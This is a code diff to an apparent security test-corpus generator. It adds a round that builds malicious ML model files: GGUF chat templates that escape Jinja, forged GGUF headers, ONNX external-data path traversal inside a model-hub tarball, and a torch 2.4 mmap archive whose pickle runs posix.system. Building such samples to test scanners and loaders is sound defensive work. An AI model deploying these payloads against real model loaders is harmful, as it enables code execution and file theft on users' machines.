@@ -465,6 +465,7 @@ def build():
     round_s20_tar(evil)
     round_s21()
     round_s22()
+    round_s23()
 
 
 def joblib_array_header(dtype, shape):
@@ -821,6 +822,40 @@ def round_s22():
     for protocol in (0, 2):
         attack(f"s22-pytables-row-p{protocol}.h5", hdf5_objects.pytables_objects([{"version": 1}, _Command()], protocol=protocol),
                f"{src}: PyTables ObjectAtom row pickled with protocol {protocol} (no FRAME header: ObjectAtom.fromarray unpickles a row of any protocol, as Python 2 wrote them)")
+
+
+def round_s23():
+    """Session 23: formats beyond pickle. GGUF chat templates that escape Jinja (rendered on load by llama-cpp-python
+    before 0.2.72), forged GGUF headers, and ONNX external data outside the model's folder; bytes written per the
+    formats' specifications by model_formats.py (Debian's python3 has neither the gguf nor the onnx package)."""
+    import model_formats
+    for name, data, source in model_formats.attacks_gguf() + model_formats.attacks_onnx():
+        attack(name, data, f"s23: {source} (written per the format's specification)")
+    onnx_attack = dict((n, d) for n, d, _ in model_formats.attacks_onnx())["s23-onnx-external-dotdot.onnx"]
+    attack("s23-onnx-hub-model.tar.gz", tar({"model/model.onnx": onnx_attack, "model/test_data_set_0/input_0.pb": b"\x08\x01"}, "w:gz"),
+           "s23: an ONNX model zoo tarball (what onnx.hub.download_model_with_test_data extracts, CVE-2024-5187) whose model reads ../ external data")
+    gguf_attack = dict((n, d) for n, d, _ in model_formats.attacks_gguf())["s23-gguf-template-cycler-globals.gguf"]
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr(zip_member("release/model-q4_0.gguf"), gguf_attack)
+    attack("s23-gguf-in-zip.zip", buf.getvalue(), "s23: a GGUF model with an escaping chat template inside a release zip")
+    attack("s23-torch2-mmap-layout.pt", _torch2_aligned_zip(simple("posix", "system", CMD, proto=2)),
+           "s23: the torch >= 2.4 archive layout torch.load(mmap=True) maps (64-byte aligned records padded with 'FB' extra fields, "
+           ".format_version, .storage_alignment, byteorder, .data/serialization_id) with the payload in data.pkl")
+
+
+def _torch2_aligned_zip(payload, name="archive"):
+    """A zip laid out as torch >= 2.4 writes it: every record's data 64-byte aligned by an 'FB' padding extra field."""
+    records = [("data.pkl", payload), (".format_version", b"1"), (".storage_alignment", b"64"), ("byteorder", b"little"),
+               ("data/0", bytes(16)), ("version", b"3\n"), (".data/serialization_id", b"0123456789012345678901234567890123456789")]
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        for record, data in records:
+            info = zip_member(f"{name}/{record}")
+            start = buf.tell() + 30 + len(info.filename) + 4
+            info.extra = b"FB" + struct.pack("<H", (64 - start % 64) % 64) + bytes((64 - start % 64) % 64)
+            z.writestr(info, data)
+    return buf.getvalue()
 
 
 def _npz64(member):
